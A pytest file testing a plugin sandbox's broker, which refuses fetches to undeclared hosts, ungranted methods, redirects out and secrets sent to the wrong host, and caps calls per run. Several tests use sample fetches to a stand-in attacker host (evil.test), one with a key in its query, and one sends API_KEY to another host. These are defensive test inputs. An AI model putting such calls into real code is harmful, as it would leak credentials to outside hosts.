"""A refusal of the broker is how the execution ends: by name, with what would allow it, decided outside the jail."""

import json
from typing import Any

import pytest

from executor.conftest import PERMISSIONS, Run
from executor.upstream import Upstream, redirect
from hardpoint_executor.broker.denial import DenialCode
from hardpoint_executor.domain import Finished, Limits, Outcome, outcome_of
from hardpoint_kit.errors import ActionFailed
from hardpoint_manifest.authority import Authority
from hardpoint_manifest.check import check
from hardpoint_manifest.finding import PatchOp, apply_patch
from hardpoint_manifest.load import load

pytestmark = pytest.mark.jail
FETCH = {
    "python": "page = await self.fetch(input['url'], method=input.get('method', 'GET'))\nreturn page.status",
    "javascript": "return (await this.fetch(input.url, { method: input.method })).status;",
}
LANGUAGES = pytest.mark.parametrize("language", FETCH)


async def finish(run: Run, *arguments: Any, **named: Any) -> Finished:
    finished = (await run(*arguments, **named))[-1]
    assert isinstance(finished, Finished)
    return finished


@LANGUAGES
async def test_a_host_that_no_one_declared(run: Run, language: str) -> None:
    finished = await finish(run, language, FETCH[language], {}, input={"url": "https://evil.test/x?key=hidden"})
    error = finished.error
    assert (finished.outcome, error.reason) == (Outcome.DENIED, "HOST_NOT_GRANTED")
    assert error.message == "host evil.test is not granted"
    assert "hidden" not in repr(vars(error))
    assert (error.metadata["host"], error.metadata["path"]) == ("evil.test", "hosts")
    assert error.place.startswith("plugin.")
    assert "the author has to declare" in error.fix
    [operation] = json.loads(error.metadata["patch"])
    header = {"hosts": ["api.example.com", "other.example.com"]}
    assert apply_patch(header, [PatchOp(**operation)])["hosts"] == ["api.example.com", "other.example.com", "evil.test"]


@LANGUAGES
async def test_a_host_that_is_declared_and_not_granted(run: Run, language: str) -> None:
    granted = Authority.of(PERMISSIONS, ["other.example.com"])
    finished = await finish(
        run, language, FETCH[language], {}, granted=granted, input={"url": "https://api.example.com/"}
    )
    assert (finished.outcome, finished.error.reason) == (Outcome.DENIED, "HOST_NOT_GRANTED")
    assert finished.error.fix == 'grant "api.example.com" to the installation'
    assert "patch" not in finished.error.metadata


@LANGUAGES
async def test_a_method_without_its_permission(run: Run, language: str) -> None:
    asked = Authority.of(["network.http.get", "compute.heavy"], ["api.example.com"])
    url = {"url": "https://api.example.com/", "method": "POST"}
    finished = await finish(run, language, FETCH[language], {}, granted=asked, asked=asked, input=url)
    error = finished.error
    assert (finished.outcome, error.reason) == (Outcome.DENIED, "PERMISSION_NOT_GRANTED")
    assert (error.metadata["permission"], error.metadata["method"]) == ("network.http.post", "POST")
    [operation] = json.loads(error.metadata["patch"])
    assert operation == {
        "op": "add",
        "path": "/permissions",
        "value": ["compute.heavy", "network.http.get", "network.http.post"],
    }


async def test_a_redirect_out_of_a_declarative_call_has_a_patch_that_the_checks_accept(run: Run) -> None:
    capability = {
        "id": "probe",
        "version": "1.0.0",
        "actions": [{"id": "get"}],
        "integration": {"type": "api", "endpoint": "https://api.example.com/x"},
        "permissions": ["network.http.get"],
    }
    asked = Authority.of(["network.http.get"], ["api.example.com"])
    async with Upstream(lambda _: redirect("https://elsewhere.test/y")) as api:
        finished = await finish(run, "", capability, {"api.example.com": api}, granted=asked, asked=asked)
    error = finished.error
    assert (finished.outcome, error.reason) == (Outcome.DENIED, "REDIRECT_REFUSED")
    assert (error.metadata["because"], error.metadata["host"]) == ("HOST_NOT_GRANTED", "elsewhere.test")
    patched = apply_patch({"capability": capability}, [PatchOp(**op) for op in json.loads(error.metadata["patch"])])
    report = check(load(json.dumps(patched).encode(), "probe.json"))
    assert report.ok
    assert "elsewhere.test" in report.manifest.hosts


@LANGUAGES
async def test_a_secret_for_another_host(run: Run, language: str) -> None:
    body = {
        "python": "await self.fetch('https://other.example.com/', headers={'X-Key': self.config['API_KEY']})",
        "javascript": "await this.fetch('https://other.example.com/', { headers: { 'X-Key': this.config.API_KEY } });",
    }
    async with Upstream() as other:
        finished = await finish(run, language, body[language], {"other.example.com": other})
        assert other.connections == 0
    error = finished.error
    assert (finished.outcome, error.reason) == (Outcome.DENIED, "SECRET_NOT_FOR_HOST")
    assert (error.metadata["secret"], error.metadata["host"]) == ("API_KEY", "other.example.com")
    assert error.metadata["path"] == "config.API_KEY.hosts"
    [operation] = json.loads(error.metadata["patch"])
    assert operation["value"] == ["api.example.com", "other.example.com"]


@LANGUAGES
async def test_the_eleventh_call_is_refused_and_may_be_survived(run: Run, language: str) -> None:
    body = {
        "python": "made = 0\nwhile True:\n    await self.fetch('https://api.example.com/')\n    made += 1",
        "javascript": "for (;;) await this.fetch('https://api.example.com/');",
    }
    survived = {
        "python": f"from hardpoint_sdk import BrokerError\n{body['python']}".replace("await", "try: await").replace(
            "\n    made", "\n    except BrokerError as error: return [made, error.code]\n    made"
        ),
        "javascript": """
            for (let made = 0; ; made += 1) {
              try { await this.fetch('https://api.example.com/'); } catch (error) { return [made, error.code]; }
            }""",
    }
    async with Upstream() as api:
        finished = await finish(run, language, body[language], {"api.example.com": api})
        assert len(api.seen) == 10
        assert (finished.outcome, finished.error.reason) == (Outcome.BUDGET, "BUDGET")
        assert finished.error.metadata == {"budget": "broker_calls", "limit": "10", "happened": "no"}
        assert finished.usage.broker_calls == 10
        finished = await finish(run, language, survived[language], {"api.example.com": api})
    assert (finished.outcome, finished.output) == (Outcome.OK, [10, "BUDGET"])


@LANGUAGES
async def test_who_never_stops_asking_is_stopped(run: Run, language: str) -> None:
    body = {
        "python": "while True:\n    try: await self.fetch('https://evil.test/')\n    except Exception: pass",
        "javascript": "for (;;) { try { await this.fetch('https://evil.test/'); } catch {} }",
    }
    finished = await finish(run, language, body[language], {})
    assert (finished.outcome, finished.error.reason) == (Outcome.BUDGET, "BUDGET")


@LANGUAGES
@pytest.mark.parametrize("ask", [1, 2, True, 10**30, "1", None, -1, 1.0, [1]])
async def test_a_refusal_cannot_be_made_up(run: Run, language: str, ask: Any) -> None:
    """The first ask is answered and the second refused: only the refused one's number means anything."""
    made_up = json.dumps(ask)
    body = {
        "python": f"""
            import json
            from hardpoint_sdk import BrokerError
            await self.fetch('https://api.example.com/')
            try: await self.fetch('https://evil.test/')
            except BrokerError: pass
            raise BrokerError('UPSTREAM_TIMEOUT', 'not my fault', json.loads({made_up!r}))""".replace(
            "\n            ", "\n"
        ),
        "javascript": f"""
            await this.fetch('https://api.example.com/');
            let refused;
            try {{ await this.fetch('https://evil.test/'); }} catch (error) {{ refused = error; }}
            throw Object.assign(refused, {{ ask: {made_up}, code: 'UPSTREAM_TIMEOUT', message: 'not my fault' }});""",
    }
    async with Upstream() as api:
        finished = await finish(run, language, body[language], {"api.example.com": api})
    if ask == 2:
        assert (finished.outcome, finished.error.reason) == (Outcome.DENIED, "HOST_NOT_GRANTED")
        assert "not my fault" not in finished.error.message
    else:
        assert (finished.outcome, finished.error.reason) == (Outcome.USER_ERROR, "USER_ERROR")


@LANGUAGES
async def test_an_error_of_the_plugins_own_after_a_refusal_is_its_own(run: Run, language: str) -> None:
    body = {
        "python": "try: await self.fetch('https://evil.test/')\nexcept Exception as e: raise KeyError(1) from e",
        "javascript": "try { await this.fetch('https://evil.test/'); } catch { throw new RangeError('own'); }",
    }
    finished = await finish(run, language, body[language], {})
    assert (finished.outcome, finished.error.reason) == (Outcome.USER_ERROR, "USER_ERROR")


async def test_a_limit_of_calls_is_the_callers(run: Run) -> None:
    async with Upstream() as api:
        body = "return [(await self.fetch('https://api.example.com/')).status for _ in range(3)]"
        finished = await finish(run, "python", body, {"api.example.com": api}, limits=Limits(broker_calls=2))
    assert (finished.outcome, finished.error.metadata["limit"]) == (Outcome.BUDGET, "2")


def test_every_refusal_ends_an_execution_in_a_way_that_was_chosen() -> None:
    others = {
        DenialCode.BUDGET: Outcome.BUDGET,
        DenialCode.UPSTREAM_TIMEOUT: Outcome.TIMEOUT,
        # What the code asked, or what the upstream answered, was wrong: nothing was denied to it.
        DenialCode.INVALID_ARGUMENT: Outcome.USER_ERROR,
        DenialCode.FILE_NOT_FOUND: Outcome.USER_ERROR,
        DenialCode.FILE_EXPIRED: Outcome.USER_ERROR,
        DenialCode.FILE_NAME_INVALID: Outcome.USER_ERROR,
        DenialCode.FILES_UNAVAILABLE: Outcome.USER_ERROR,
        DenialCode.UPSTREAM_UNREACHABLE: Outcome.USER_ERROR,
        DenialCode.UPSTREAM_ERROR: Outcome.USER_ERROR,
        DenialCode.WEBSOCKET_CLOSED: Outcome.USER_ERROR,
        DenialCode.MAIL_NOT_FOUND: Outcome.USER_ERROR,
        DenialCode.EVENT_CHANGED: Outcome.USER_ERROR,
        DenialCode.EVENT_NOT_FOUND: Outcome.USER_ERROR,
        DenialCode.NOT_JSON: Outcome.USER_ERROR,
        DenialCode.SETTING_MISSING: Outcome.USER_ERROR,
        DenialCode.SETTING_INVALID: Outcome.USER_ERROR,
        DenialCode.LOGIN_REFUSED: Outcome.USER_ERROR,
        DenialCode.STATEMENT_FAILED: Outcome.USER_ERROR,
        DenialCode.RECIPIENT_REFUSED: Outcome.USER_ERROR,
        DenialCode.RECIPIENT_DEFERRED: Outcome.USER_ERROR,
        DenialCode.MAIL_REFUSED: Outcome.USER_ERROR,
        DenialCode.REPLAY_DIVERGED: Outcome.USER_ERROR,
    }
    for code in DenialCode:
        assert outcome_of(ActionFailed("", reason=code)) is others.get(code, Outcome.DENIED), code
